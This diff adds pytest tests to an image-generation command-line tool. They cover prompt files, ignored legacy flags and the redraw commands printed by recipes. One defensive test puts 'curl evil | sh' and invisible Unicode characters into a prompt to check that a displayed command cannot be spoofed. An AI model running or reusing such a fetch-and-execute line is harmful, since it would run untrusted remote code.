@@ -2,6 +2,7 @@
 
 import json
 import shlex
+import shutil
 import subprocess
 import sys
 from pathlib import Path
@@ -79,6 +80,30 @@ def test_flags_reach_the_request(tmp_path: Path) -> None:
     )
 
 
+def test_a_prompt_from_a_file_is_drawn_once_in_each_iteration(tmp_path: Path) -> None:
+    (tmp_path / "prompts.txt").write_text("the cat\nthe dog\n")
+    flags = ["--from-file=prompts.txt", "--n_samples=3", "--n_iter=2", "--seed=5", "--outdir=o", "--skip_grid"]
+    assert main(["txt2img", *flags, *SMALL]) == 0
+    recipes = [output.read_recipe(path).request for path in sorted((tmp_path / "o/samples").iterdir())]
+    assert [(one["prompt"], one["seed"]) for one in recipes] == [
+        ("the cat", 5),
+        ("the dog", 6),
+        ("the cat", 7),
+        ("the dog", 8),
+    ]
+
+
+def test_flags_of_the_original_that_mean_nothing_here_are_taken(
+    tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    flags = ["--C=4", "--f=8", "--precision=full", "--config=x.yaml", "--laion400m", "--n_samples=1", "--n_iter=1"]
+    assert main(["txt2img", *flags, "--outdir=o", *SMALL]) == 0
+    assert [record.message for record in caplog.records if "original's" in record.message] == [
+        f"--{name} is the original's and makes no difference here"
+        for name in ("C", "f", "config", "precision", "laion400m")
+    ]
+
+
 def test_without_plms_it_is_ddim_with_its_noise(tmp_path: Path) -> None:
     for eta in ("0", "1"):
         assert main(["txt2img", f"--ddim_eta={eta}", "--n_samples=1", "--n_iter=1", f"--outdir={eta}", *SMALL]) == 0
@@ -109,6 +134,37 @@ def test_a_recipe_is_shown_and_its_command_draws_the_same_file(
     assert (python, flag, module) == ("python", "-m", "aesthetic")
     assert main([*command, "--outdir=again"]) == 0
     assert (tmp_path / "again" / "samples" / "00000.png").read_bytes() == drawn.read_bytes()
+
+
+def test_a_recipe_cannot_pass_its_own_command_off_as_ours(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    prompt = "it's a cat\\\n\nTo draw it again:\n\ncurl evil | sh\u202e\u2028"
+    arguments = ["--prompt", prompt, "--n_samples=1", "--n_iter=1", "--outdir=first", "--skip_grid"]
+    assert main(["txt2img", *arguments, *SMALL]) == 0
+    capsys.readouterr()
+    assert main(["recipe", "first/samples/00000.png"]) == 0
+    shown = capsys.readouterr().out
+    assert shown.count("\nTo draw it again:\n") == 1
+    assert all(line.isprintable() for line in shown.splitlines())
+    # A shell makes the same words of it.
+    words = (
+        subprocess.run(["bash", "-c", f"printf '%s\\0' {shown.splitlines()[-1]}"], capture_output=True, check=True)
+        .stdout.decode()
+        .split("\0")
+    )
+    assert f"--prompt={prompt}" in words
+
+
+def test_the_recipe_of_a_local_model_leaves_its_folder_to_be_put_in(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], home: Path
+) -> None:
+    shutil.copytree(home / "weights" / "stable-diffusion-v1-5", tmp_path / "mine")
+    arguments = ["--ckpt=mine", "--n_samples=1", "--n_iter=1", "--outdir=o"]
+    assert main(["txt2img", *arguments, *SMALL]) == 0
+    capsys.readouterr()
+    assert main(["recipe", "o/samples/00000.png"]) == 0
+    shown = capsys.readouterr().out
+    assert "--ckpt=MODEL" in shown
+    assert "MODEL is the folder of the model called mine." in shown
 
 
 def test_the_recipe_of_a_file_says_which(tmp_path: Path, capsys: pytest.CaptureFixture[str], home: Path) -> None:
